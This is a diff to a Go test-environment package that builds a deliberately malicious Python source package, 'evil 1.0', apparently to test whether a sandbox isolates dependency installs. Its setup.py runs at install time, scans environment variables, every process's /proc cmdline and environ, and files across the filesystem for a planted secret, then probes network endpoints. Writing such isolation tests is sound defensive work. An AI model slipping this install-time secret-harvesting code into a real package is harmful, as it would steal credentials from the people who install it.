@@ -1,6 +1,9 @@
 package testenv
 
 import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
 	"encoding/json"
 	"fmt"
 	"strings"
@@ -114,4 +117,84 @@ func DepsAttackResult(message string) (map[string]any, error) {
 		return nil, fmt.Errorf("%v: %s", err, line)
 	}
 	return got, nil
+}
+
+// pipAttack is setup.py of an sdist whose pyproject.toml names it as the in-tree build backend
+// (PEP 517, no build requirements: nothing to fetch from an index): pip imports it to build the
+// package, so it runs during the install as any setup.py does. It does what depsAttack does, in
+// python, and fails the build.
+const pipAttack = `import concurrent.futures, json, os, sys, urllib.error, urllib.request
+here = os.path.dirname(os.path.abspath(__file__))
+t = json.load(open(os.path.join(here, 'targets.json')))
+secret = ''.join(t['secret']).encode()
+leaks = []
+def look(where, data):
+    if secret in data:
+        leaks.append(where)
+look('env', json.dumps(dict(os.environ)).encode())
+for pid in os.listdir('/proc'):
+    if pid.isdigit():
+        for f in ('cmdline', 'environ'):
+            try:
+                look(pid + '/' + f, open('/proc/%s/%s' % (pid, f), 'rb').read())
+            except Exception:
+                pass
+skip = {'proc', 'sys', 'dev', 'usr', 'lib', 'bin', 'sbin', 'node_modules'}
+def walk(d, depth):
+    try:
+        entries = list(os.scandir(d))
+    except Exception:
+        return
+    for e in entries:
+        try:
+            if e.is_dir(follow_symlinks=False):
+                if depth < 3 and e.name not in skip:
+                    walk(e.path, depth + 1)
+            elif e.is_file(follow_symlinks=False):
+                with open(e.path, 'rb') as f:
+                    look(e.path, f.read(1 << 20))
+        except Exception:
+            pass
+walk('/', 0)
+direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
+via_proxy = urllib.request.build_opener()
+def probe(opener, url):
+    try:
+        return opener.open(url, timeout=1.5).status
+    except urllib.error.HTTPError as e:
+        return e.code
+    except Exception:
+        return 'unreachable'
+out = {'leaks': leaks}
+keys = list(t['probe'])
+with concurrent.futures.ThreadPoolExecutor(len(keys)) as ex:
+    for k, v in zip(keys, ex.map(lambda k: probe(direct, t['probe'][k]), keys)):
+        out[k] = v
+out['proxy_registry'] = probe(via_proxy, t['registry'])
+out['proxy_other'] = probe(via_proxy, t['other'])
+print('ATTACK ' + json.dumps(out), file=sys.stderr, flush=True)
+raise SystemExit(1)
+`
+
+// PipAttackSdist is the sdist (file name, .tar.gz bytes) of package evil 1.0 whose setup.py is the
+// dependency-install attack (arguments as DepsAttackPackage's).
+func PipAttackSdist(probes map[string]string, secret, registry, other string) (string, []byte) {
+	targets, _ := json.Marshal(map[string]any{"probe": probes, "secret": []string{secret[:len(secret)/2], secret[len(secret)/2:]},
+		"registry": registry, "other": other})
+	files := map[string]string{
+		"evil-1.0/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"setup\"\nbackend-path = [\".\"]\n",
+		"evil-1.0/setup.py":       pipAttack,
+		"evil-1.0/targets.json":   string(targets),
+		"evil-1.0/PKG-INFO":       "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
+	}
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+	for _, name := range []string{"evil-1.0/PKG-INFO", "evil-1.0/pyproject.toml", "evil-1.0/setup.py", "evil-1.0/targets.json"} {
+		tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(files[name])), Typeflag: tar.TypeReg})
+		tw.Write([]byte(files[name]))
+	}
+	tw.Close()
+	gz.Close()
+	return "evil-1.0.tar.gz", buf.Bytes()
 }
